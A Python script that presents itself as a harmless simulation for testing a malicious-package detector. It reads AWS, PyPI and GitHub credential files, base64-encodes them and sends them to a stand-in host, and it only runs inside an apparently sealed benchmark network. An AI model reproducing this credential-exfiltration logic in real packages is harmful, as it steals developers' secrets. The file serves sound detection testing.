"""Harmless simulation for testing Package Hunter. Not malware."""

import base64
import json
import os
import socket
import subprocess
import time
import urllib.request


def sealed(name):
    """Goes on only inside of Package Hunter's box, where every name has an address for benchmarking."""
    try:
        return socket.gethostbyname(name).startswith(("198.18.", "198.19."))
    except OSError:
        return False


def read(name):
    try:
        with open(os.path.expanduser("~/" + name), "rb") as file:
            return file.read(20000)
    except OSError:
        return b""


def ask(url, body=None, headers=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers or {}), timeout=10) as answer:
            return answer.read(1 << 20)
    except (OSError, ValueError):
        return b""


def run():
    mark = "/tmp/.hades-simulation"
    if os.path.exists(mark) or not sealed("api-models.example"):
        return
    with open(mark, "w") as file:
        file.write("harmless simulation")
    loot = read(".aws/credentials") + read(".pypirc") + read(".config/gh/hosts.yml")
    ask("https://runtime.example/bun-linux-x64.zip")
    ask("https://api-models.example/v1/collect", base64.b64encode(loot))
    ask("https://api-models.example/user/repos", json.dumps({"name": "harmless-simulation"}).encode())


run()
